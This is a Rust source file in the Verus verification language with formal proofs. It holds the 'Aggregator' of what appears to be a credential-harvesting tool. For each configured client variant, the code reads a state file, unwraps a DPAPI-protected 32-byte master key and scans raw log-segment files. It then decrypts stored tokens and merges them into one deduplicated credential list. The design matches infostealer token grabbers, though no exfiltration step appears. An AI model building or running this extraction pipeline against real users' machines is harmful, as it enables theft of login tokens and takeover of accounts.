//! The Aggregator: one extraction run over every configured client variant,
//! merged into a deduplicated credential list.

use crate::decryptor::{find_and_decrypt_tokens, spec_find_tokens};
use crate::encoding::b64_decode_of;
use crate::errors::ExtractError;
use crate::keyunwrap::{
    has_dpapi_marker, json_encrypted_key_of, spec_unwrap_master_key, unwrap_master_key,
};
use crate::protect::ProtectedStore;
use vstd::prelude::*;

verus! {

/// The on-disk material of one client variant, as plain values: the state
/// file's text and the raw bytes of each readable log-segment file. `None`
/// stands for a file or directory that could not be read or listed; a
/// per-file read failure is simply absent from `segments`.
pub struct VariantStorage {
    /// The text of the variant's state file, when readable.
    pub local_state: Option<String>,
    /// The raw bytes of each readable log-segment file, when the storage
    /// directory could be listed.
    pub segments: Option<Vec<Vec<u8>>>,
}

/// The credentials recovered from a variant's segment files, in file order.
pub open spec fn segments_tokens(segs: Seq<Seq<u8>>, key: Seq<u8>) -> Seq<Seq<char>>
    decreases segs.len(),
{
    if segs.len() == 0 {
        Seq::empty()
    } else {
        spec_find_tokens(segs.first(), key) + segments_tokens(segs.drop_first(), key)
    }
}

/// The per-variant outcome: the variant's credential list in discovery order,
/// or the typed failure that demoted the variant to zero contributions. A
/// master key of the wrong size for the cipher is a structural key failure,
/// not a per-candidate skip.
pub open spec fn spec_try_extract<S: ProtectedStore>(store: &S, storage: VariantStorage) -> Result<
    Seq<Seq<char>>,
    ExtractError,
> {
    match storage.local_state {
        None => Err(ExtractError::IoError),
        Some(content) => match spec_unwrap_master_key(store, content@) {
            Err(e) => Err(e),
            Ok(key) => if key.len() != 32 {
                Err(ExtractError::CryptoError)
            } else {
                match storage.segments {
                    None => Err(ExtractError::IoError),
                    Some(segs) => Ok(segments_tokens(segs.deep_view(), key)),
                }
            },
        },
    }
}

/// Runs the key-unwrap, scan and decrypt stages over one variant's storage.
/// The variant's master key is used only against candidates scanned from this
/// same storage; a failure of any candidate never aborts the rest.
pub fn try_extract_from_client<S: ProtectedStore>(store: &S, storage: &VariantStorage) -> (r:
    Result<Vec<String>, ExtractError>)
    ensures
        match r {
            Ok(v) => spec_try_extract(store, *storage) == Ok::<Seq<Seq<char>>, ExtractError>(
                v.deep_view(),
            ),
            Err(e) => spec_try_extract(store, *storage) == Err::<Seq<Seq<char>>, ExtractError>(e),
        },
{
    let content = match &storage.local_state {
        Some(c) => c,
        None => return Err(ExtractError::IoError),
    };
    let key = match unwrap_master_key(store, content.as_str()) {
        Ok(k) => k,
        Err(e) => return Err(e),
    };
    if key.len() != 32 {
        return Err(ExtractError::CryptoError);
    }
    let segs = match &storage.segments {
        Some(s) => s,
        None => return Err(ExtractError::IoError),
    };
    let mut out: Vec<String> = Vec::new();
    let mut si: usize = 0;
    proof {
        assert(segs.deep_view().skip(0) =~~= segs.deep_view());
        assert(out.deep_view() + segments_tokens(segs.deep_view(), key@) =~~= segments_tokens(
            segs.deep_view(),
            key@,
        ));
    }
    while si < segs.len()
        invariant
            si <= segs.len(),
            out.deep_view() + segments_tokens(segs.deep_view().skip(si as int), key@)
                =~~= segments_tokens(segs.deep_view(), key@),
        decreases segs.len() - si,
    {
        let ghost remaining = segs.deep_view().skip(si as int);
        proof {
            assert(remaining.first() == segs.deep_view()[si as int]);
            assert(remaining.drop_first() =~~= segs.deep_view().skip(si as int + 1));
        }
        let seg: &Vec<u8> = &segs[si];
        assert(seg@ == segs.deep_view()[si as int]);
        let mut toks = find_and_decrypt_tokens(seg.as_slice(), key.as_slice());
        let ghost old_out = out.deep_view();
        let ghost toks_view = toks.deep_view();
        out.append(&mut toks);
        proof {
            assert(out.deep_view() =~~= old_out + toks_view);
            assert(toks_view == spec_find_tokens(remaining.first(), key@));
            assert(segments_tokens(remaining, key@) == spec_find_tokens(remaining.first(), key@)
                + segments_tokens(remaining.drop_first(), key@));
            assert(out.deep_view() + segments_tokens(remaining.drop_first(), key@) =~~= old_out
                + segments_tokens(remaining, key@));
        }
        si = si + 1;
    }
    proof {
        assert(segs.deep_view().skip(segs.len() as int) =~~= Seq::<Seq<u8>>::empty());
        assert(out.deep_view() =~~= segments_tokens(segs.deep_view(), key@));
    }
    Ok(out)
}

/// A per-variant failure is never the aggregate error: `NoCredentialsFound`
/// can only come from the Aggregator itself, after every variant was tried.
pub proof fn lemma_variant_error_is_scoped<S: ProtectedStore>(store: &S, storage: VariantStorage)
    ensures
        match spec_try_extract(store, storage) {
            Ok(_) => true,
            Err(e) => e != ExtractError::NoCredentialsFound,
        },
{
    match storage.local_state {
        None => {},
        Some(content) => match json_encrypted_key_of(content@) {
            None => {},
            Some(field) => match b64_decode_of(field) {
                None => {},
                Some(decoded) => {
                    if has_dpapi_marker(decoded) {
                        store.unwrap_errors_are_scoped(decoded.skip(5));
                    }
                },
            },
        },
    }
}

/// A failed variant contributes nothing; a successful one its token list.
pub open spec fn variant_tokens<S: ProtectedStore>(store: &S, storage: VariantStorage) -> Seq<
    Seq<char>,
> {
    match spec_try_extract(store, storage) {
        Ok(ts) => ts,
        Err(_) => Seq::empty(),
    }
}

/// Every variant's contribution, concatenated in variant order.
pub open spec fn all_tokens<S: ProtectedStore>(store: &S, storages: Seq<VariantStorage>) -> Seq<
    Seq<char>,
>
    decreases storages.len(),
{
    if storages.len() == 0 {
        Seq::empty()
    } else {
        variant_tokens(store, storages.first()) + all_tokens(store, storages.drop_first())
    }
}

/// Deduplication by exact string equality, keeping first occurrences in order.
pub open spec fn dedup(s: Seq<Seq<char>>) -> Seq<Seq<char>>
    decreases s.len(),
{
    if s.len() == 0 {
        Seq::empty()
    } else {
        let prefix = dedup(s.drop_last());
        if prefix.contains(s.last()) {
            prefix
        } else {
            prefix.push(s.last())
        }
    }
}

/// True when `v` holds a string whose characters are `x`.
fn vec_contains_string(v: &Vec<String>, x: &String) -> (r: bool)
    ensures
        r == v.deep_view().contains(x@),
{
    let mut i: usize = 0;
    while i < v.len()
        invariant
            i <= v.len(),
            forall|k: int| 0 <= k < i ==> v.deep_view()[k] != x@,
        decreases v.len() - i,
    {
        let vi: &String = &v[i];
        if vi.eq(x) {
            assert(v.deep_view()[i as int] == x@);
            return true;
        }
        assert(v.deep_view()[i as int] != x@);
        i = i + 1;
    }
    assert(!v.deep_view().contains(x@));
    false
}

/// Deduplication loses no string and keeps no string twice: the result holds
/// exactly the distinct strings of its input, in first-occurrence order.
pub proof fn lemma_dedup(s: Seq<Seq<char>>)
    ensures
        dedup(s).to_set() == s.to_set(),
        dedup(s).no_duplicates(),
    decreases s.len(),
{
    broadcast use vstd::seq_lib::group_seq_properties;

    if s.len() == 0 {
        assert(dedup(s).to_set() =~= s.to_set());
    } else {
        let p = s.drop_last();
        let x = s.last();
        lemma_dedup(p);
        assert(s =~= p.push(x));
        p.lemma_push_to_set_commute(x);
        assert(s.to_set() == p.to_set().insert(x));
        if dedup(p).contains(x) {
            assert(dedup(s) == dedup(p));
            assert(p.to_set().contains(x));
            assert(dedup(s).to_set() =~= s.to_set());
        } else {
            assert(dedup(s) == dedup(p).push(x));
            dedup(p).lemma_push_to_set_commute(x);
            assert(dedup(s).to_set() =~= s.to_set());
            assert(forall|i: int| 0 <= i < dedup(p).len() ==> dedup(p)[i] != x);
            assert(dedup(s).no_duplicates());
        }
    }
}

/// Per-variant extraction distributes over concatenation of variant lists.
proof fn lemma_all_tokens_append<S: ProtectedStore>(
    store: &S,
    a: Seq<VariantStorage>,
    b: Seq<VariantStorage>,
)
    ensures
        all_tokens(store, a + b) == all_tokens(store, a) + all_tokens(store, b),
    decreases a.len(),
{
    if a.len() == 0 {
        assert(a + b =~= b);
        assert(all_tokens(store, a) + all_tokens(store, b) =~~= all_tokens(store, b));
    } else {
        assert((a + b).len() > 0);
        assert((a + b).first() == a.first());
        assert((a + b).drop_first() =~= a.drop_first() + b);
        lemma_all_tokens_append(store, a.drop_first(), b);
        assert(all_tokens(store, a + b) =~~= all_tokens(store, a) + all_tokens(store, b));
    }
}

/// Adding one more variant appends exactly that variant's contribution.
proof fn lemma_all_tokens_take_succ<S: ProtectedStore>(
    store: &S,
    storages: Seq<VariantStorage>,
    k: int,
)
    requires
        0 <= k < storages.len(),
    ensures
        all_tokens(store, storages.take(k + 1)) == all_tokens(store, storages.take(k))
            + variant_tokens(store, storages[k]),
{
    let one = seq![storages[k]];
    assert(storages.take(k + 1) =~= storages.take(k) + one);
    lemma_all_tokens_append(store, storages.take(k), one);
    assert(one.len() == 1);
    assert(one.first() == storages[k]);
    assert(one.drop_first() =~= Seq::<VariantStorage>::empty());
    assert(all_tokens(store, one.drop_first()) =~~= Seq::<Seq<char>>::empty());
    assert(all_tokens(store, one) == variant_tokens(store, storages[k]) + all_tokens(
        store,
        one.drop_first(),
    ));
    assert(all_tokens(store, one) =~~= variant_tokens(store, storages[k]));
}

/// The Aggregator: runs the key-unwrap, scan and decrypt stages once per
/// configured client variant, merging every successfully decrypted credential
/// into one deduplicated list. A variant's failure demotes it to zero
/// contributions and never aborts the run; the call fails, with
/// `NoCredentialsFound`, exactly when no variant contributed anything.
pub fn extract_tokens<S: ProtectedStore>(store: &S, storages: &Vec<VariantStorage>) -> (r: Result<
    Vec<String>,
    ExtractError,
>)
    ensures
        match r {
            Ok(v) => v.deep_view() == dedup(all_tokens(store, storages@)) && v@.len() > 0
                && v.deep_view().no_duplicates(),
            Err(e) => e == ExtractError::NoCredentialsFound && all_tokens(store, storages@).len()
                == 0,
        },
{
    let mut res: Vec<String> = Vec::new();
    let mut k: usize = 0;
    proof {
        assert(storages@.take(0) =~= Seq::<VariantStorage>::empty());
        assert(res.deep_view() =~~= dedup(all_tokens(store, storages@.take(0))));
    }
    while k < storages.len()
        invariant
            k <= storages.len(),
            res.deep_view() == dedup(all_tokens(store, storages@.take(k as int))),
        decreases storages.len() - k,
    {
        let ghost processed = all_tokens(store, storages@.take(k as int));
        match try_extract_from_client(store, &storages[k]) {
            Ok(toks) => {
                let ghost toks_view = toks.deep_view();
                proof {
                    assert(variant_tokens(store, storages@[k as int]) == toks_view);
                }
                let mut j: usize = 0;
                proof {
                    assert(toks_view.take(0) =~~= Seq::<Seq<char>>::empty());
                    assert(processed + toks_view.take(0) =~~= processed);
                }
                while j < toks.len()
                    invariant
                        j <= toks.len(),
                        toks.deep_view() == toks_view,
                        res.deep_view() == dedup(processed + toks_view.take(j as int)),
                    decreases toks.len() - j,
                {
                    let ghost scanned = processed + toks_view.take(j as int);
                    let t = toks[j].clone();
                    proof {
                        assert(t@ == toks_view[j as int]);
                        assert(processed + toks_view.take(j as int + 1) =~~= scanned.push(t@));
                        assert(scanned.push(t@).drop_last() =~~= scanned);
                        assert(scanned.push(t@).last() == t@);
                        assert(dedup(scanned.push(t@)) == if dedup(scanned).contains(t@) {
                            dedup(scanned)
                        } else {
                            dedup(scanned).push(t@)
                        });
                    }
                    if !vec_contains_string(&res, &t) {
                        let ghost old_res = res.deep_view();
                        res.push(t);
                        proof {
                            assert(res.deep_view() =~~= old_res.push(t@));
                        }
                    }
                    j = j + 1;
                }
                proof {
                    assert(toks_view.take(toks_view.len() as int) =~~= toks_view);
                    lemma_all_tokens_take_succ(store, storages@, k as int);
                    assert(processed + toks_view == all_tokens(store, storages@.take(k as int + 1)));
                }
            },
            Err(_) => {
                proof {
                    assert(variant_tokens(store, storages@[k as int]) =~~= Seq::<Seq<char>>::empty());
                    lemma_all_tokens_take_succ(store, storages@, k as int);
                    assert(processed + variant_tokens(store, storages@[k as int]) =~~= processed);
                }
            },
        }
        k = k + 1;
    }
    proof {
        assert(storages@.take(storages@.len() as int) =~= storages@);
    }
    if res.len() == 0 {
        proof {
            let all = all_tokens(store, storages@);
            lemma_dedup(all);
            if all.len() > 0 {
                assert(all.contains(all[0]));
                assert(all.to_set().contains(all[0]));
                assert(dedup(all).to_set().contains(all[0]));
                assert(dedup(all).contains(all[0]));
                assert(res.deep_view().len() > 0);
            }
        }
        Err(ExtractError::NoCredentialsFound)
    } else {
        proof {
            lemma_dedup(all_tokens(store, storages@));
        }
        Ok(res)
    }
}

/// The union of each variant's own credential set.
pub open spec fn variant_token_sets<S: ProtectedStore>(
    store: &S,
    storages: Seq<VariantStorage>,
) -> Set<Seq<char>>
    decreases storages.len(),
{
    if storages.len() == 0 {
        Set::empty()
    } else {
        variant_tokens(store, storages.first()).to_set().union(
            variant_token_sets(store, storages.drop_first()),
        )
    }
}

/// Variant independence: the final credential set is exactly the union of the
/// per-variant credential sets, and each of those is a function of that
/// variant's own storage and key alone — so tampering one variant's key or
/// files never affects what another variant contributes.
pub proof fn lemma_result_set_is_union<S: ProtectedStore>(store: &S, storages: Seq<VariantStorage>)
    ensures
        dedup(all_tokens(store, storages)).to_set() == variant_token_sets(store, storages),
    decreases storages.len(),
{
    broadcast use vstd::seq_lib::group_seq_properties;

    lemma_dedup(all_tokens(store, storages));
    if storages.len() == 0 {
        assert(all_tokens(store, storages).to_set() =~= Set::<Seq<char>>::empty());
    } else {
        lemma_result_set_is_union(store, storages.drop_first());
        lemma_dedup(all_tokens(store, storages.drop_first()));
        let head = variant_tokens(store, storages.first());
        let rest = all_tokens(store, storages.drop_first());
        assert(all_tokens(store, storages) == head + rest);
        assert((head + rest).to_set() =~= head.to_set().union(rest.to_set()));
    }
}

} // verus!
